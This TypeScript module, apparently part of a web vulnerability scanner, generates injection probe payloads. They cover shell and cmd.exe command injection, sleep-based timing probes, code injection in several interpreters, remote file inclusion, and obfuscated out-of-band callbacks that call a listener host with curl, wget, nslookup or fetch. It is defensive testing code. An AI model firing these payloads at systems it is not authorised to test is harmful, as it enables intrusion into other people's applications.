/** Every payload of this module, as tables: a test holds each against the rules of harmless.ts. */

/** Where the product of two numbers has to appear. `v` is the value that stood there. */
export interface Arithmetic {
  readonly flavour: string
  readonly with: (v: string, a: number, b: number) => string
  /** What the interpreter makes of it. */
  readonly expected: (a: number, b: number) => string
  /** The value may be one of several that the application counts with: what it shows is a multiple then, of the same factor each time. */
  readonly counted?: true
}

const plain = (a: number, b: number): string => String(a * b)
const marked = (a: number, b: number): string => `qv${a * b}vq`
/** Written in the notation of C, and printed in the usual one (printf(1p)): no filter looks for a percent sign. */
const print = (a: number, b: number): string => `printf qv%dvq 0x${(a * b).toString(16)}`

/** One text for a place outside quotes, in double and in single quotes: each comes to run exactly one of its three parts. */
const everywhere = (separator: string, command: string): string => {
  const run = `${separator}${command}${separator}`
  return `${run}"${run}"'${run}'`
}

/**
 * Where a line break cannot go, a semicolon alone; `needs` says what the place has to hold, that the server says it is Windows, that the place
 * speaks of files, or that few requests may be sent.
 */
export const COMMANDS: readonly (Arithmetic & {
  readonly needs?: 'line break' | 'no line break' | 'windows' | 'file' | 'few'
})[] = [
  {
    // Of few requests one: without quotes, which a statement of SQL would mind as well.
    flavour: 'shell, $(()) alone',
    needs: 'few',
    with: (v, a, b) => `${v}qv$((${a}*${b}))vq`,
    expected: marked,
  },
  {
    // Arithmetic of the shell needs no separator: the first part is read without quotes and in ", the second in '.
    flavour: 'shell, $(())',
    with: (v, a, b) => `${v}qv$((${a}*${b}))vq'qv$((${a}*${b}))vq'`,
    expected: marked,
  },
  {
    flavour: 'shell, ; or line break',
    needs: 'line break',
    with: (v, a, b) => `${v}${everywhere(';\n', print(a, b))}`,
    expected: marked,
  },
  {
    flavour: 'shell, ;',
    needs: 'no line break',
    with: (v, a, b) => `${v}${everywhere(';', print(a, b))}`,
    expected: marked,
  },
  {
    // What opens files by two arguments takes a name that begins or ends so for a command (perlfunc, open; Kernel#open of Ruby).
    flavour: 'open of Perl or Ruby, |',
    needs: 'file',
    with: (_v, a, b) => `|${print(a, b)};#|`,
    expected: marked,
  },
  {
    // cmd.exe prints what it works out; to it ' is a letter like any other.
    flavour: 'cmd.exe, &',
    needs: 'windows',
    with: (v, a, b) => `${v}${everywhere('&', `set /a ${a}*${b}`)}`,
    expected: plain,
  },
]

/** Of the two only one is run: without quotes and in " the second finds q set, in ' the first is text. */
const waitWithin = (v: string, s: string): string => `${v}\${q=$(sleep ${s})}'\${q=$(sleep ${s})}'`

export const COMMAND_WAITS: readonly {
  readonly flavour: string
  readonly needs: 'line break' | 'no line break'
  readonly with: (v: string, seconds: string) => string
}[] = [
  // Where nothing is taken out it waits twice.
  {
    flavour: 'shell, $() or line break',
    needs: 'line break',
    with: (v, s) => `${waitWithin(v, s)}${everywhere('\n', `sleep ${s}`)}`,
  },
  { flavour: 'shell, $()', needs: 'no line break', with: waitWithin },
]

/** Holds within single and within double quotes: what is code in the one is text in the other. */
const inQuotes = (v: string, code: string): string => `${v}'${code}'"${code}"`

const numberOf = (v: string): string => (/^-?\d{1,15}$/.test(v) ? v : '1')

/**
 * `[x][0]` is x in JavaScript, Python, Ruby, Groovy and PHP, and nothing in SQL. 'anywhere' needs nothing of the page;
 * 'shown': what comes of the value has to stand in it; 'text': quotes have to matter, too; 'within': the server has to fail on
 * some texts, as it does where the value is a part of its code; 'closed': the page has to show the error of code that was evaluated.
 */
export const CODE: readonly (Arithmetic & { readonly tried: 'anywhere' | 'within' | 'shown' | 'text' | 'closed' })[] = [
  { flavour: 'expression', tried: 'anywhere', with: (_v, a, b) => `[${a}*${b}][0]`, expected: plain, counted: true },
  // What is printed shows whatever becomes of the value of the expression.
  { flavour: 'PHP or Perl, print', tried: 'anywhere', with: (_v, a, b) => `print(${a}*${b});`, expected: plain },
  // Either binds less than what compares or counts, and so takes all of the expression around it.
  {
    flavour: 'part of an expression, if and else',
    tried: 'within',
    with: (v, a, b) => `${numberOf(v)} if 0 else [${a}*${b}][0]`,
    expected: plain,
  },
  {
    flavour: 'part of an expression, ? and :',
    tried: 'within',
    with: (v, a, b) => `${numberOf(v)} ? [${a}*${b}][0] : [${a}*${b}][0]`,
    expected: plain,
  },
  {
    // Operators on both sides take the outer two.
    flavour: 'expression in a list',
    tried: 'shown',
    with: (v, a, b) => `${v || '1'},[${a}*${b}][0],${v || '1'}`,
    expected: plain,
  },
  {
    // A list in their own words: a formula that counts alone takes none, and neither does a template in braces.
    flavour: 'SpEL or OGNL',
    tried: 'shown',
    with: (_v, a, b) => `{1,${a}}[1]*${b}`,
    expected: plain,
  },
  {
    // A list of one, which to JavaScript is a block, and an error everywhere else.
    flavour: 'SpEL or OGNL text',
    tried: 'text',
    with: (v, a, b) => inQuotes(v, `+{${a}*${b}}[0]+`),
    expected: plain,
  },
  { flavour: 'JavaScript text', tried: 'text', with: (v, a, b) => inQuotes(v, `+[${a}*${b}][0]+`), expected: plain },
  { flavour: 'Python text', tried: 'text', with: (v, a, b) => inQuotes(v, `+str([${a}*${b}][0])+`), expected: plain },
  { flavour: 'Perl or PHP text', tried: 'text', with: (v, a, b) => inQuotes(v, `.(${a}*${b}).`), expected: plain },
  { flavour: 'Ruby text', tried: 'text', with: (v, a, b) => inQuotes(v, `+(${a}*${b}).to_s+`), expected: plain },
  // What the value stands in is closed, and the rest made a comment: in Perl and PHP alike.
  ...['', ')', '}', '}}', '))', "'", '"', "')", '")'].map((end) => ({
    flavour: `Perl or PHP, behind ${end === '' ? 'the value' : end}`,
    tried: 'closed' as const,
    with: (v: string, a: number, b: number) => `${v}${end};print(${a}*${b});#`,
    expected: plain,
  })),
]

/**
 * How interpreters name code that they were given to evaluate, in errors of theirs: Perl (perldiag), PHP (eval), Ruby (Kernel#eval), Python (exec),
 * Node.js (vm).
 */
export const EVALUATED =
  /\(eval \d+\) line \d+|eval\(\)'d code|\(eval(?: at [^)\n]{1,80})?\):\d+|File (?:"|&quot;)<string>(?:"|&quot;), line \d+|evalmachine\.(?:<|&lt;)anonymous/

/**
 * Our address with numbers for what its answer becomes where it is run; an address alone to everything else. What the
 * application puts behind it becomes the value of a third parameter.
 */
export const inclusion = (url: string, a: number, b: number): string => `${url}q.php?a=${a}&b=${b}&c=`

export interface Included {
  readonly flavour: string
  /** What running the answer to an address shows; null where the text is another. */
  readonly shows: (payload: string) => string | null
}

const productIn = (payload: string): number | null => {
  const [, a, b] = /q\.php\?a=(\d+)&b=(\d+)&c=$/i.exec(payload) ?? []
  return a && b ? Number(a) * Number(b) : null
}

const showing =
  (before: string, behind: string): Included['shows'] =>
  (payload) => {
    const product = productIn(payload)
    return product === null ? null : `${before}${product}${behind}`
  }

/** By what ran the listener's text. */
export const INCLUDED: readonly Included[] = [
  { flavour: 'PHP from another server', shows: showing('qv', 'vq') },
  { flavour: 'Python or Ruby from another server', shows: showing('qw', 'wq') },
]

/** The shell works the product out before the call; without a domain the call is a request. */
export const callingCommand = (
  v: string,
  { host, url }: { readonly host: string | null; readonly url: string },
  a: number,
  b: number,
): string => {
  const name = `qv$((${a}*${b})).${host}`
  const path = `${url}qv$((${a}*${b}))`
  const call = host === null ? `curl -m 3 ${path}||wget -T 3 -O - ${path}` : `getent hosts ${name}||nslookup ${name}`
  return `${v}$(${call})'$(${call})'`
}

/** Code that calls an address of ours and takes a product along, for results that nobody sees. */
export interface CallingCode {
  readonly flavour: string
  readonly with: (address: { readonly host: string | null; readonly url: string }, a: number, b: number) => string
}

/** The product stands in the name, too: where only names leave the network, that call arrives. */
const calledAt = ({ host, url }: { readonly host: string | null; readonly url: string }): readonly [string, string] =>
  host === null ? [`${url}qv`, ''] : ['http://qv', `.${host}${url.slice(url.indexOf(host) + host.length)}`]

/** Numbers of the characters: within either kind of quotes the code is text, and ends none. */
const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',')

/** Without quotes, in single and in double quotes: `code` stands in each as code once; `hide` makes nothing of the rest. */
const anywhere = (code: string, joined: string, hide: (rest: string) => string): string =>
  `${code}${hide(`'${joined}'"${joined}"`)}`

const inBlock = (rest: string): string => `/*${rest}*/`

export const CALLING_CODE: readonly CallingCode[] = [
  {
    // A promise that nobody looks after would end the process when it fails.
    flavour: 'JavaScript',
    with: (address, a, b) => {
      const code = `fetch(\`${calledAt(address).join(`\${${a}*${b}}`)}\`).catch(()=>0)`
      return anywhere(code, `+${code}+`, inBlock)
    },
  },
  {
    flavour: 'PHP',
    with: (address, a, b) => {
      const text = (plain: string): string =>
        plain === '' ? '' : `join(array_map(chr(99).chr(104).chr(114),[${codes(plain)}]))`
      const [before, behind] = calledAt(address)
      const url = `${text(before)}.(${a}*${b})${behind === '' ? '' : `.${text(behind)}`}`
      const code = `file_get_contents(${url},false,stream_context_create([${text('http')}=>[${text('timeout')}=>3]]))`
      return anywhere(code, `.${code}.`, inBlock)
    },
  },
  {
    flavour: 'Python',
    with: (address, a, b) => {
      const text = (plain: string): string => (plain === '' ? 'str()' : `bytes((${codes(plain)},)).decode()`)
      const [before, behind] = calledAt(address)
      const url = `${text(before)}+str(${a}*${b})+${text(behind)}`
      const code = `__import__(${text('urllib.request')}).request.urlopen(${url},None,3)`
      // A comment to the end of the line would take a bracket along that stands behind the value.
      return anywhere(code, `+str(${code})+`, (rest) => ` if 1 else ${rest}`)
    },
  },
  {
    flavour: 'Perl',
    with: (address, a, b) => {
      const [before, behind] = calledAt(address)
      const code = `((require HTTP::Tiny)&&HTTP::Tiny->new(timeout,3)->get(q(${before}).(${a}*${b}).q(${behind})))`
      return anywhere(code, `.${code}.`, (rest) => `#${rest}`)
    },
  },
]
